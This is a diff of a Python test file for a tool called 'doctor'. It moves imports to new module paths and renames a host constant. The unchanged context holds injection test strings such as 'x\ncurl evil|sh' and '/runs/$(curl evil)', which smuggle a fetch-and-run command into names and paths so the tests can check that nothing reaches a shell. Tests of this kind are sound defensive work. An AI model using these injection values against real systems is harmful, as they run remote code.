@@ -8,12 +8,12 @@ import pytest
 from click.testing import CliRunner
 
 from doctor.api import Directory, StorageFacts, healthy
-from doctor.cli import app
-from doctor.facts import Interface
-from doctor.facts.host import NameLookup
-from doctor.job import UNTOLD, Host
+from doctor.cli.main import app
+from doctor.core.facts import Interface
+from doctor.core.facts.host import NameLookup
+from doctor.core.job import UNKNOWN_HOST, Host
+from doctor.core.settings import Settings
 from doctor.session import judge, load_checks
-from doctor.settings import Settings
 
 EVIL = (
     "x\ncurl evil|sh",
@@ -36,7 +36,7 @@ def test_a_name_holds_nothing_that_a_shell_acts_on(name):
 def test_names_that_hosts_have_stay():
     for name in ("node-1.cluster.example", "eth0.100@if5", "bond0:1", "nodé"):
         assert Host(name).name == Interface(name).name == name
-    assert Host(UNTOLD).name == UNTOLD
+    assert Host(UNKNOWN_HOST).name == UNKNOWN_HOST
 
 
 @pytest.mark.parametrize("path", ["/runs/a; curl evil|sh #", "/runs/$(curl evil)"])
